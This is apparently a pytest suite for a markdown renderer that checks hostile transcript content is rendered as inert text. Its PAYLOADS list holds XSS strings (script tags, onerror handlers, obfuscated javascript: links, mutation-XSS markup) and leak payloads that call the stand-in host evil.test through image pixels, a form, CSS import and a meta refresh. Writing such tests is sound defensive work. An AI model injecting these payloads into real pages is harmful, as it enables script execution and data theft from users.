"""Hostile transcripts become text, and nothing loads by itself."""

import re

import pytest

from operators.rendering.markdown import MARKDOWN_LIMIT, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='x' onclick='alert(1)' style='position:fixed;inset:0'>all of the page</a>",
    "<div hx-get=/admin/ hx-trigger=load id=main class=button data-key=n>x</div>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<link rel=prefetch href=https://evil.test/x>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><input name=q></form>",
    "![leak](https://evil.test/pixel.png?secret)",
    "![leak][1]\n\n[1]: https://evil.test/pixel.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](/accounts/logout/)",
    "[click](//evil.test/x)",
    '<https://evil.test/"onmouseover="alert(1)>',
    "[a](https://ok.test 'onclick=alert(1) \"x')",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "`<img src=x onerror=alert(1)>`",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_a_tag_or_attribute_of_its_own(payload):
    html = render_markdown(payload)
    tags = re.findall(r"<([a-z0-9]+)((?:\s[^>]*)?)>", html)
    assert {name for name, _ in tags} <= {"a", "p", "code", "pre", "br"}
    for name, attributes in tags:
        names = set(re.findall(r'\s([a-z-]+)="', attributes))
        assert names <= ({"href", "rel", "target"} if name == "a" else set())
    assert all(
        address.startswith(("http://", "https://", "mailto:"))
        for address in re.findall(r'href="([^"]*)', html)
    )


def test_links_leave_without_a_trace():
    assert render_markdown("[site](https://example.org/)") == (
        '<p><a href="https://example.org/" target="_blank" rel="noopener noreferrer nofollow">site</a></p>\n'
    )


def test_an_image_is_a_link_that_one_may_choose_to_follow():
    html = render_markdown("![receipt](https://example.org/r.png)")
    assert "<img" not in html
    assert 'href="https://example.org/r.png"' in html


def test_lines_lists_tables_and_code_stay_readable():
    html = render_markdown(
        "one\ntwo\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n`code` ~~old~~ **new**"
    )
    for part in (
        "one<br>",
        "<li>a</li>",
        "<td>1</td>",
        "<code>code</code>",
        "<s>old</s>",
        "<strong>new</strong>",
    ):
        assert part in html


def test_headings_do_not_disturb_the_outline_of_the_page():
    assert render_markdown("# Title") == "<h5>Title</h5>\n"


def test_a_text_too_long_to_parse_is_shown_as_it_came():
    text = "[" * (MARKDOWN_LIMIT + 1) + "<b>"
    html = render_markdown(text)
    assert html.startswith("<pre>[[[")
    assert html.endswith("&lt;b&gt;</pre>")
